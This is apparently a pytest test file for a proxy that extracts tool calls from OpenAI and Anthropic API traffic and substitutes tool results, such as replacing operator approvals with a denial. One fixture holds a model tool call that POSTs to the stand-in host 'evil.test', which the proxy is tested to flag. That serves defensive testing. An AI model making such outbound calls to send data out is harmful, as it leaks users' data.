"""LLM API extraction: OpenAI chat, Responses, Anthropic Messages; whole and streamed."""

from __future__ import annotations

import json
import random
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from openai.types.chat import ChatCompletion, ChatCompletionChunk
from openai.types.responses import Response, ResponseStreamEvent
from pydantic import TypeAdapter

from offscope.proxy.extract.llm import (
    LlmResponseParser,
    LlmResult,
    llm_api_of,
    parse_request,
    parse_response,
    substitute_tool_results,
)
from tests.support import core_wire as w

SSE = "text/event-stream; charset=utf-8"


def feed_in_pieces(api: str, body: bytes, cuts: list[int]) -> LlmResult:
    parser = LlmResponseParser(api, SSE)
    last = 0
    for cut in [*sorted(cuts), len(body)]:
        parser.feed(body[last:cut])
        last = cut
    return parser.finish()


def calls_of(result: LlmResult) -> list[tuple[str, object, str | None]]:
    return [(c.name, c.args, c.id) for c in result.tool_calls]


# --- the fixtures are the SDK's shapes ---------------------------------------------


def test_fixtures_validate_against_openai_sdk_types() -> None:
    ChatCompletion.model_validate(w.CHAT_COMPLETION)
    for chunk in w.chat_stream_chunks():
        ChatCompletionChunk.model_validate(chunk)
    Response.model_validate(w.RESPONSE)
    adapter: TypeAdapter[ResponseStreamEvent] = TypeAdapter(ResponseStreamEvent)
    kinds = [type(adapter.validate_python(e)).__name__ for e in w.responses_events()]
    assert kinds[-1] == "ResponseCompletedEvent"


@pytest.mark.parametrize(
    ("path", "api"),
    [
        ("/v1/chat/completions", "openai-chat"),
        ("/openai/deployments/gpt/chat/completions?api-version=2024-10-21", "openai-chat"),
        ("/v1/responses", "openai-responses"),
        ("/v1/messages", "anthropic-messages"),
        ("/v1/messages/", "anthropic-messages"),
        ("/v1/models", None),
        ("/messages", None),
        ("/v1/messages/count_tokens", None),
    ],
)
def test_llm_api_of(path: str, api: str | None) -> None:
    assert llm_api_of(path) == api


# --- non-streaming ------------------------------------------------------------------


def test_chat_whole() -> None:
    r = parse_response("openai-chat", json.dumps(w.CHAT_COMPLETION).encode(), "application/json")
    assert r.model == "gpt-4o-2024-08-06"
    assert r.text == "Let me look at the customer first."
    assert calls_of(r) == [
        ("get_customer", {"customer_id": "4411"}, "call_abc"),
        ("fetch", {"url": "https://evil.test/x", "method": "post"}, "call_def"),
    ]
    fetch = r.tool_calls[1].to_call_input()
    assert (fetch.source, fetch.host, fetch.path, fetch.method) == (
        "llm",
        "evil.test",
        "/x",
        "POST",
    )


def test_chat_whole_bad_arguments_noted() -> None:
    body = json.loads(json.dumps(w.CHAT_COMPLETION))
    body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] = '{"customer_id": '
    r = parse_response("openai-chat", json.dumps(body).encode(), "application/json")
    assert r.tool_calls[0].args == {"_raw": '{"customer_id": '}
    assert r.tool_calls[0].notes == ["tool arguments are not valid JSON"]


def test_responses_whole() -> None:
    r = parse_response("openai-responses", json.dumps(w.RESPONSE).encode(), "application/json")
    assert r.model == "gpt-4.1-2025-04-14"
    assert r.text == "I will check."
    assert calls_of(r) == [("get_customer", {"customer_id": "4412"}, "call_r1")]


def test_anthropic_whole() -> None:
    r = parse_response(
        "anthropic-messages", json.dumps(w.ANTHROPIC_MESSAGE).encode(), "application/json"
    )
    assert r.model == "claude-sonnet-4-20250514"
    assert r.text == "I'll look that up."
    assert calls_of(r) == [
        ("get_customer", {"customer_id": "4411"}, "toolu_01A09q90qw90lq917835lq9")
    ]


def test_whole_body_in_pieces_is_the_same() -> None:
    body = json.dumps(w.CHAT_COMPLETION).encode()
    parser = LlmResponseParser("openai-chat", "application/json")
    for i in range(len(body)):
        parser.feed(body[i : i + 1])
    assert calls_of(parser.finish()) == calls_of(
        parse_response("openai-chat", body, "application/json")
    )


def test_not_json_is_a_note_not_an_error() -> None:
    r = parse_response("openai-chat", b"{not json", "application/json")
    assert r.tool_calls == [] and any("not valid JSON" in n for n in r.notes)


# --- streaming, at arbitrary byte boundaries -----------------------------------------

STREAMS = [
    ("openai-chat", w.chat_stream, w.CHAT_STREAM_EXPECT, "Checking now.", "gpt-4o-mini"),
    (
        "openai-responses",
        w.responses_stream,
        [("get_customer", {"customer_id": "4412"}, "call_r1")],
        "I will check.",
        "gpt-4.1-2025-04-14",
    ),
    (
        "anthropic-messages",
        w.anthropic_stream,
        [w.ANTHROPIC_STREAM_EXPECT],
        "Okay, reading.",
        "claude-sonnet-4-20250514",
    ),
]


@pytest.mark.parametrize(
    ("api", "make", "expect", "text", "model"), STREAMS, ids=[s[0] for s in STREAMS]
)
def test_stream_one_byte_at_a_time(api, make, expect, text, model) -> None:
    body = make()
    r = feed_in_pieces(api, body, list(range(1, len(body))))
    assert calls_of(r) == expect
    assert r.text == text
    assert r.model == model
    assert not [n for n in r.notes if "error" in n]


@pytest.mark.parametrize(
    ("api", "make", "expect", "text", "model"), STREAMS, ids=[s[0] for s in STREAMS]
)
def test_stream_random_splits_and_crlf(api, make, expect, text, model) -> None:
    rng = random.Random(7)
    for crlf in (False, True):
        body = make()
        if crlf:
            body = body.replace(b"\n", b"\r\n")
        for _ in range(25):
            cuts = rng.sample(range(1, len(body)), k=rng.randint(1, 40))
            r = feed_in_pieces(api, body, cuts)
            assert calls_of(r) == expect
            assert r.text == text


def test_crlf_stream_one_byte_at_a_time() -> None:
    body = w.anthropic_stream().replace(b"\n", b"\r\n")
    r = feed_in_pieces("anthropic-messages", body, list(range(1, len(body))))
    assert calls_of(r) == [w.ANTHROPIC_STREAM_EXPECT]


def test_stream_multibyte_utf8_split() -> None:
    body = w.chat_stream()
    assert "é".encode() in body or b"\\u00e9" in body
    # Cut inside every multi-byte character, wherever they are.
    raw = body.replace(b"\\u00e9", "é".encode()).replace(b"\\u2603", "☃".encode())
    cuts = [i + 1 for i, b in enumerate(raw) if b >= 0x80]
    r = feed_in_pieces("openai-chat", raw, cuts)
    assert r.tool_calls[0].args["note"] == "café ☃"


def test_responses_stream_without_completed_uses_deltas() -> None:
    body = w.responses_stream(with_completed=False)
    r = feed_in_pieces("openai-responses", body, list(range(1, len(body), 3)))
    assert calls_of(r) == [("get_customer", {"customer_id": "4412"}, "call_r1")]
    assert r.text == "I will check."


def test_responses_completed_replaces_partial_state() -> None:
    events = w.responses_events()
    # Drop the argument deltas: response.completed alone must still yield the call once.
    events = [e for e in events if "function_call_arguments" not in e["type"]]
    body = w.sse([(e["type"], e) for e in events])
    r = feed_in_pieces("openai-responses", body, [])
    assert calls_of(r) == [("get_customer", {"customer_id": "4412"}, "call_r1")]


def test_stream_truncated_still_reports_what_arrived() -> None:
    body = w.chat_stream()
    cut = body.index(b'"index": 1')  # the stream dies before the second call
    r = feed_in_pieces("openai-chat", body[:cut], [])
    assert [c.name for c in r.tool_calls] == ["get_customer"]


def test_one_bad_event_does_not_lose_the_rest() -> None:
    events: list[tuple[str | None, Any]] = [
        (None, {"choices": [{"delta": {"tool_calls": [{"index": 0, "function": "oops"}]}}]})
    ]
    events += [(None, c) for c in w.chat_stream_chunks()]
    r = feed_in_pieces("openai-chat", w.sse(events), [])
    assert [c.name for c in r.tool_calls][-2:] == ["get_customer", "read_file"]
    assert any("parse error" in n for n in r.notes)


def test_parse_request_shapes() -> None:
    chat = {
        "model": "gpt-4o",
        "stream": True,
        "messages": [
            {"role": "system", "content": "You are a billing agent."},
            {"role": "user", "content": [{"type": "text", "text": "Refund customer 4411."}]},
        ],
    }
    info = parse_request("openai-chat", json.dumps(chat).encode())
    assert (info.model, info.stream, info.first_user) == ("gpt-4o", True, "Refund customer 4411.")
    resp = {"model": "gpt-4.1", "input": "Refund customer 4411."}
    assert (
        parse_request("openai-responses", json.dumps(resp).encode()).first_user
        == "Refund customer 4411."
    )
    ant = {"model": "claude", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
    info = parse_request("anthropic-messages", json.dumps(ant).encode())
    assert (info.model, info.stream, info.first_user) == ("claude", False, "hi")
    assert parse_request("openai-chat", b"\xff\xfe").model is None


# --- substitute_tool_results -----------------------------------------------------------


def test_substitute_chat() -> None:
    body: dict[str, Any] = {
        "model": "m",
        "messages": [
            {"role": "user", "content": "go"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_ask",
                        "type": "function",
                        "function": {"name": "ask_operator", "arguments": "{}"},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_ask", "content": "yes, go ahead"},
            {"role": "tool", "tool_call_id": "call_other", "content": "unrelated"},
            {"role": "tool", "tool_call_id": ["weird"], "content": "ignored"},
        ],
    }
    found = substitute_tool_results("openai-chat", body, {"call_ask": "NO HUMAN. No permission."})
    assert found == [("call_ask", "yes, go ahead")]
    assert body["messages"][2]["content"] == "NO HUMAN. No permission."
    assert body["messages"][3]["content"] == "unrelated"


def test_substitute_chat_content_parts() -> None:
    body: dict[str, Any] = {
        "messages": [
            {
                "role": "tool",
                "tool_call_id": "c1",
                "content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}],
            }
        ]
    }
    assert substitute_tool_results("openai-chat", body, {"c1": "X"}) == [("c1", "a\nb")]
    assert body["messages"][0]["content"] == "X"


def test_substitute_responses() -> None:
    body: dict[str, Any] = {
        "model": "m",
        "input": [
            {"role": "user", "content": "go"},
            {
                "type": "function_call",
                "call_id": "call_ask",
                "name": "ask_operator",
                "arguments": "{}",
            },
            {"type": "function_call_output", "call_id": "call_ask", "output": "sure"},
            {"type": "function_call_output", "call_id": "call_x", "output": "other"},
        ],
    }
    found = substitute_tool_results("openai-responses", body, {"call_ask": "SENTINEL"})
    assert found == [("call_ask", "sure")]
    assert body["input"][2]["output"] == "SENTINEL" and body["input"][3]["output"] == "other"
    assert (
        substitute_tool_results("openai-responses", {"input": "just text"}, {"call_ask": "x"}) == []
    )


def test_substitute_anthropic() -> None:
    body: dict[str, Any] = {
        "model": "claude",
        "messages": [
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "tool_use",
                        "id": "toolu_1",
                        "name": "ask_operator",
                        "input": {"question": "ok?"},
                    }
                ],
            },
            {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": "toolu_1",
                        "content": [{"type": "text", "text": "approved"}],
                    },
                    {"type": "tool_result", "tool_use_id": "toolu_2", "content": "keep"},
                    {"type": "text", "text": "continue"},
                ],
            },
        ],
    }
    found = substitute_tool_results("anthropic-messages", body, {"toolu_1": "SENTINEL"})
    assert found == [("toolu_1", "approved")]
    blocks = body["messages"][1]["content"]
    assert blocks[0]["content"] == "SENTINEL" and blocks[1]["content"] == "keep"
    assert (
        substitute_tool_results("anthropic-messages", ["not", "a", "dict"], {"toolu_1": "x"}) == []
    )


# --- the real openai SDK against a loopback server serving the fixtures -----------------


class _Server:
    def __init__(self, body: bytes, content_type: str) -> None:
        self.requests: list[dict] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("content-length", 0))
                outer.requests.append(
                    {
                        "path": self.path,
                        "headers": dict(self.headers),
                        "body": self.rfile.read(length),
                    }
                )
                self.send_response(200)
                self.send_header("content-type", content_type)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def serve() -> Iterator:
    servers: list[_Server] = []

    def start(body: bytes, content_type: str) -> _Server:
        servers.append(_Server(body, content_type))
        return servers[-1]

    yield start
    for s in servers:
        s.close()


def test_openai_sdk_chat_stream_agrees(serve) -> None:
    from openai import OpenAI

    body = w.chat_stream()
    server = serve(body, "text/event-stream")
    client = OpenAI(base_url=server.url, api_key="sk-test-000000000000000000000000", max_retries=0)
    args: dict[int, str] = {}
    names: dict[int, str] = {}
    stream = client.chat.completions.create(
        model="gpt-4o-mini",
        stream=True,
        messages=[{"role": "user", "content": "Refund customer 4411."}],
        tools=[
            {
                "type": "function",
                "function": {"name": "get_customer", "parameters": {"type": "object"}},
            }
        ],
    )
    for chunk in stream:
        for tc in chunk.choices[0].delta.tool_calls or []:
            assert tc.function is not None
            args[tc.index] = args.get(tc.index, "") + (tc.function.arguments or "")
            if tc.function.name:
                names[tc.index] = tc.function.name
    sdk = [(names[i], json.loads(args[i])) for i in sorted(args)]
    ours = [
        (c.name, c.args)
        for c in parse_response("openai-chat", body, "text/event-stream").tool_calls
    ]
    assert sdk == ours == [(n, a) for n, a, _ in w.CHAT_STREAM_EXPECT]
    # And the request the SDK really sent parses.
    sent = server.requests[0]
    assert llm_api_of(sent["path"]) == "openai-chat"
    info = parse_request("openai-chat", sent["body"])
    assert (info.model, info.stream, info.first_user) == (
        "gpt-4o-mini",
        True,
        "Refund customer 4411.",
    )


def test_openai_sdk_responses_stream_agrees(serve) -> None:
    from openai import OpenAI

    body = w.responses_stream()
    server = serve(body, "text/event-stream")
    client = OpenAI(base_url=server.url, api_key="sk-test-000000000000000000000000", max_retries=0)
    final = None
    with client.responses.create(
        model="gpt-4.1", input="Refund customer 4411.", stream=True
    ) as stream:
        for event in stream:
            if event.type == "response.completed":
                final = event.response
    assert final is not None
    sdk = [
        (i.name, json.loads(i.arguments), i.call_id)
        for i in final.output
        if i.type == "function_call"
    ]
    assert sdk == calls_of(parse_response("openai-responses", body, "text/event-stream"))
    info = parse_request("openai-responses", server.requests[0]["body"])
    assert info.first_user == "Refund customer 4411." and info.stream


def test_openai_sdk_tool_result_request_is_substituted(serve) -> None:
    from openai import OpenAI

    server = serve(json.dumps(w.CHAT_COMPLETION).encode(), "application/json")
    client = OpenAI(base_url=server.url, api_key="sk-test-000000000000000000000000", max_retries=0)
    client.chat.completions.create(
        model="gpt-4o",
        messages=[
            {"role": "user", "content": "go"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_ask",
                        "type": "function",
                        "function": {"name": "ask_operator", "arguments": "{}"},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_ask", "content": "yes"},
        ],
    )
    body = json.loads(server.requests[0]["body"])
    assert substitute_tool_results("openai-chat", body, {"call_ask": "S"}) == [("call_ask", "yes")]
    assert body["messages"][-1]["content"] == "S"
